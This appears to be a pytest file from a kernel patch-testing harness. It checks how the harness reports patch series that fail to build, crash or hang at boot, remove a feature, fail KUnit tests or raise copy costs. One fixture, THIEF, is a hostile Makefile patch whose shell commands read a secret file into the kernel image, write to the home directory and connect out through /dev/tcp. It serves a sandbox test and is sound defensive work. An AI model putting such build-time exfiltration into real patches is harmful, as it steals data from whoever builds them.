# SPDX-License-Identifier: Apache-2.0
"""The harness itself: a series that spoils its kernel has the right exit code, in one screen."""

import re
import shlex
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from harness.base.paths import CHECKOUT, cache_directory
from harness.kernel import build_kernel
from harness.kernel.build import sandbox
from harness.results import SuiteRequest
from harness.suite.lib.person import HARNESS

pytestmark = [
    pytest.mark.nightly("five kernels of its own"),
    pytest.mark.usefixtures("from_source"),
    pytest.mark.timeout(3600),
]

SERIES = CHECKOUT / "tests/series/bad-kernels"

TEST = "test_a_full_pool_refuses_and_does_not_fall_back"

SCREEN = 50
"""Lines; also a terminal of a laptop has them."""

SOURCE = "debian:6.12"
"""The kernel that the series are made for."""

SECRET, NOTHING = "a-key-of-the-user", "nothing-to-steal"

THIEF = """\
--- a/kernel/dma/Makefile
+++ b/kernel/dma/Makefile
@@ -1,3 +1,8 @@
 # SPDX-License-Identifier: GPL-2.0

+stolen := $(shell cat {secret} 2>/dev/null || echo {nothing})
+written := $(shell echo written >{home}/written)
+called := $(shell bash -c 'echo hello >/dev/tcp/127.0.0.1/{port}')
+CFLAGS_stolen.o := -DSTOLEN='"$(stolen)"'
+obj-y += stolen.o
 obj-$(CONFIG_HAS_DMA)			+= mapping.o direct.o
--- /dev/null
+++ b/kernel/dma/stolen.c
@@ -0,0 +1,2 @@
+// SPDX-License-Identifier: GPL-2.0-only
+const char harness_stolen[] = STOLEN;
"""
"""A patch whose makefile compiles a file of this machine into the kernel."""


@dataclass(frozen=True)
class Told:
    """What a command printed, and its exit code."""

    code: int
    out: str
    err: str

    @property
    def words(self) -> str:
        """The output without line breaks."""
        return " ".join(self.out.split())


@dataclass(frozen=True)
class Commands:
    """Runs the commands of a person who has a series; *qemu* is their QEMU."""

    qemu: str

    def validate(self, series: Path, *words: str) -> Told:
        """``harness validate``, with one test."""
        command = [HARNESS, "validate", str(series), "-k", f"{TEST} and probe-a", "-n0"]
        return self._run(*command, "--repeats=1", *words)

    def suite(self, series: Path) -> Told:
        """``scripts/run --series``, with one test; its set-up was done by who runs this."""
        script = [sys.executable, "-P", str(CHECKOUT / "scripts/suite.py"), "-n0"]
        tests = f"harness/suite/properties/test_exhaustion.py::{TEST}"
        return self._run(*script, f"{tests}[probe-a]", f"--series={series}")

    def _run(self, *words: str) -> Told:
        command = [*words, f"--kernel={SOURCE}", f"--qemu={self.qemu}"]
        ran = subprocess.run(command, check=False, capture_output=True, text=True, cwd=CHECKOUT)
        print("$", shlex.join(command), ran.stdout, ran.stderr, f"exit code {ran.returncode}")
        return Told(ran.returncode, ran.stdout, ran.stderr)


@pytest.fixture
def person(settings: SuiteRequest) -> Commands:
    """A person at this machine's command line."""
    return Commands(settings.qemu)


def one_screen(told: Told, code: int) -> str:
    """What was told, as words, once its length and exit code are right."""
    assert told.code == code
    assert len(told.out.splitlines()) <= SCREEN
    assert "Traceback" not in told.out + told.err
    return told.words


def test_a_series_that_does_not_build_is_bad_and_the_compiler_is_quoted(person: Commands) -> None:
    """The compiler's first error is shown unchanged; no test runs with the series."""
    said = one_screen(person.validate(SERIES / "does-not-build.patch"), 1)

    assert "it does not build." in said
    assert "'struct io_tlb_mem' has no member named 'nr_restricted'" in said
    assert "Verdict: bad." in said

    told = person.suite(SERIES / "does-not-build.patch")

    assert told.code == 2
    assert "has no member named 'nr_restricted'" in told.err


@pytest.mark.parametrize(
    ("series", "result", "why"),
    [
        ("panic-after-earlycon", "CRASH", "panic: Kernel panic - not syncing: no memory for the"),
        ("panic-before-earlycon", "HANG", "nothing on the console"),
        ("hangs-in-boot", "HANG", "hang: "),
    ],
)
def test_a_series_whose_kernel_does_not_boot_is_bad_and_says_how_it_ended(
    person: Commands, series: str, result: str, why: str
) -> None:
    """A boot that ends in a panic is a CRASH, and one that does not end a HANG: once."""
    said = one_screen(person.validate(SERIES / f"{series}.patch"), 1)

    assert f"PASS -> 2x {result}" in said.replace("2x PASS", "PASS")
    assert why in said
    assert "harness debug" in said

    told = person.suite(SERIES / f"{series}.patch")

    assert told.code == 1
    assert why in " ".join(told.out.split())
    assert re.search(rf"^results: .*\b{result} 1 ", told.out, re.MULTILINE)
    assert len(told.out.splitlines()) <= SCREEN


def test_a_series_that_removes_the_code_of_the_feature_is_bad(person: Commands) -> None:
    """Without RESERVEDMEM_OF_DECLARE() there is no pool, and a test of pools fails."""
    said = one_screen(person.validate(SERIES / "removes-the-feature.patch"), 1)

    assert "breaks" in said
    assert person.suite(SERIES / "removes-the-feature.patch").code == 1


def test_a_series_that_removes_the_option_of_the_feature_is_bad(person: Commands) -> None:
    """An option that is gone is named; as part of the suite it is not judged."""
    series = CHECKOUT / "tests/series/renamed-option"

    said = one_screen(person.validate(series), 1)

    assert "it removes the feature, CONFIG_DMA_RESTRICTED_POOL." in said
    assert "this source has no such option" in said

    told = person.suite(series)

    assert told.code == 2
    assert "CONFIG_DMA_RESTRICTED_POOL=y" in told.err


def test_kunit_tests_of_a_series_run_in_a_guest_and_count(person: Commands) -> None:
    """One test of a suite that the series adds passes, one fails, one is skipped: it is bad."""
    said = one_screen(person.validate(SERIES / "kunit-test-fails.patch"), 1)

    assert "KUnit tests in files of the series: " in said
    assert "set_has_64_slots FAIL" in said
    assert "Expected 128 == 64" in said
    assert "Verdict: bad." in said


def test_a_series_for_another_flavour_is_judged_in_that_flavour(person: Commands) -> None:
    """Code that the kernel does not compile is not judged, and --flavour=auto compiles it."""
    series = SERIES / "dynamic-only.patch"

    said = one_screen(person.validate(series), 2)

    assert "CONFIG_SWIOTLB_DYNAMIC is off. --flavour=dynamic compiles" in said

    said = one_screen(person.validate(series, "--flavour=auto"), 0)

    assert "flavour dynamic" in said
    assert "Verdict: good." in said


def test_a_series_that_copies_twice_costs_more(person: Commands) -> None:
    """A bounced mapping costs more instructions and bytes, and a limit makes the series bad."""
    said = one_screen(person.validate(SERIES / "copies-twice.patch", "--cost-limit=10"), 1)

    assert "Instructions and copied bytes that differ:" in said
    assert "bytes copied, +100 %" in said
    assert "grew by more than 10 %" in said
    assert "Verdict: bad." in said


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A server on the loopback that a makefile could talk to."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def test_a_series_gets_nothing_that_lies_outside_its_build(
    settings: SuiteRequest,
    listener: socket.socket,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A makefile reads no file of this machine, writes none to the home, and reaches no server."""
    if not sandbox.is_allowed():
        pytest.skip("this machine allows no namespaces")
    secret, home = tmp_path / "secret", tmp_path / "home"
    secret.write_text(SECRET)
    home.mkdir()
    monkeypatch.setenv("HARNESS_CACHE", str(cache_directory()))
    monkeypatch.setenv("HOME", str(home))
    series, (_, port) = tmp_path / "thief.patch", listener.getsockname()
    series.write_text(THIEF.format(secret=secret, nothing=NOTHING, home=home, port=port))

    kernel = build_kernel(replace(settings.spec, source=SOURCE, series=(series,)))

    image = kernel.image.read_bytes()
    assert NOTHING.encode() in image
    assert SECRET.encode() not in image
    assert list(home.iterdir()) == []
    with pytest.raises(BlockingIOError):
        listener.accept()
